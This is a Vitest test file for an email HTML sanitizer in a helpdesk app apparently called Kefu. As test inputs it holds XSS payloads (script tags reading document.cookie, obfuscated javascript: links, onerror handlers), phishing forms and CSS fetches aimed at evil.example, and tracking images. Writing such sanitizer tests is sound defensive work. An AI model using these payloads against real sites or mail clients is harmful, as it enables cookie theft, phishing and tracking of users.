import { describe, expect, test } from 'vitest'
import { cleanStyle, sanitizeEmailHtml } from './email.sanitize.js'

const cidUrl = (contentId: string) =>
  contentId === 'logo@kefu' ? '/api/attachments/att_123/content' : null
const clean = (html: string) => sanitizeEmailHtml(html, { cidUrl })

describe('sanitizeEmailHtml', () => {
  test('scripts, their content and event handlers are removed', () => {
    const { html } = clean(
      '<p onclick="steal()" onmouseover="x()">Hi<script>alert(document.cookie)</script></p><svg onload="x()"><script>1</script></svg><img src=x onerror="alert(1)">',
    )
    expect(html).not.toMatch(/script|alert|onclick|onmouseover|onload|onerror|svg/i)
    expect(html).toContain('<p>Hi</p>')
  })

  test('javascript:, vbscript: and data: links are dropped, obfuscated or not', () => {
    const hostile = [
      '<a href="javascript:alert(1)">a</a>',
      '<a href="JaVaScRiPt:alert(1)">b</a>',
      '<a href="jav&#x09;ascript:alert(1)">c</a>',
      '<a href="&#106;avascript:alert(1)">d</a>',
      '<a href=" javascript:alert(1)">e</a>',
      '<a href="vbscript:msgbox(1)">f</a>',
      '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">g</a>',
    ]
    for (const input of hostile) {
      const { html } = clean(input)
      expect(html).not.toMatch(/href/)
    }
  })

  test('links open in a new tab without handing over the opener or referrer', () => {
    const { html } = clean(
      '<a href="https://shop.example/order/1" target="_self" rel="opener">order</a>',
    )
    expect(html).toBe(
      '<a href="https://shop.example/order/1" target="_blank" rel="noopener noreferrer">order</a>',
    )
    expect(clean('<a href="mailto:a@b.example">mail</a>').html).toContain(
      'href="mailto:a@b.example"',
    )
  })

  test('forms, inputs, iframes, objects, embeds, meta refresh and base are removed', () => {
    const { html } = clean(
      '<form action="https://evil.example"><input name="password"><button>Log in</button></form><iframe src="https://evil.example"></iframe><object data="x.swf"></object><embed src="x.swf"><meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example/">',
    )
    expect(html).not.toMatch(/form|input|button|iframe|object|embed|meta|base|evil/i)
    expect(html).toBe('Log in')
  })

  test('remote images are blocked until the agent loads them, and counted', () => {
    const result = clean(
      '<img src="https://tracker.example/open.gif?u=1" width="1"><img src="http://cdn.example/logo.png" alt="logo"><img src="//cdn.example/x.png">',
    )
    expect(result.remoteImages).toBe(3)
    expect(result.html).not.toMatch(/ src=/)
    expect(result.html).toContain('data-kefu-src="https://tracker.example/open.gif?u=1"')
    expect(result.html).toContain('data-kefu-src="http://cdn.example/logo.png"')
    expect(result.html).toContain('data-kefu-src="https://cdn.example/x.png"')
  })

  test('a forged data-kefu-src is dropped, srcset cannot sneak a remote image in', () => {
    const { html, remoteImages } = clean(
      '<img data-kefu-src="javascript:alert(1)" srcset="https://tracker.example/a.png 1x" alt="x">',
    )
    expect(html).toBe('<img alt="x" />')
    expect(remoteImages).toBe(0)
  })

  test('cid: images point at Kefu, unknown ones lose their src', () => {
    expect(clean('<img src="cid:logo@kefu">').html).toBe(
      '<img src="/api/attachments/att_123/content" />',
    )
    expect(clean('<img src="cid:missing@kefu">').html).toBe('<img />')
  })

  test('data: images are kept only for raster image types', () => {
    const png = 'data:image/png;base64,iVBORw0KGgo='
    expect(clean(`<img src="${png}">`).html).toBe(`<img src="${png}" />`)
    expect(clean('<img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=">').html).toBe('<img />')
    expect(clean('<img src="data:text/html;base64,PHNjcmlwdD4=">').html).toBe('<img />')
  })

  test('style attributes stay, but not the parts that fetch or run code', () => {
    const { html } = clean(
      `<div style="color:red; background:url(https://tracker.example/bg.png); width: expression(alert(1)); behavior: url(x.htc); -moz-binding: url(x.xml#y); font-weight:bold">x</div><p style="background-image: URL('//evil.example/a')">y</p><span style="position:fixed;top:0">z</span>`,
    )
    expect(html).toBe(
      '<div style="color:red; font-weight:bold">x</div><p>y</p><span style="top:0">z</span>',
    )
  })

  test('CSS escapes and comments cannot smuggle a fetch past the filter', () => {
    expect(cleanStyle('background: u\\72l(https://evil.example)')).toBe('')
    expect(cleanStyle('background: url/**/(https://evil.example)')).toBe('')
    expect(cleanStyle('color: blue; /* ; */ background: ur/**/l(x)')).toBe('color: blue')
  })

  test('style elements and their CSS are removed', () => {
    expect(
      clean('<style>@import url(https://evil.example/a.css); body{}</style><p>x</p>').html,
    ).toBe('<p>x</p>')
  })

  test('ordinary email markup survives: tables, fonts, blockquotes, lists', () => {
    const input =
      '<table width="100%" cellpadding="4"><tr><td align="center" bgcolor="#eeeeee"><font color="#333333" face="Arial">Order</font></td></tr></table><blockquote type="cite">quoted</blockquote><ul><li>one</li></ul>'
    expect(clean(input).html).toBe(input)
  })

  test('ids and names are dropped so the mail cannot clobber the page', () => {
    expect(
      clean('<div id="app" name="x"><a name="top" href="https://a.example">a</a></div>').html,
    ).toBe('<div><a href="https://a.example" target="_blank" rel="noopener noreferrer">a</a></div>')
  })
})
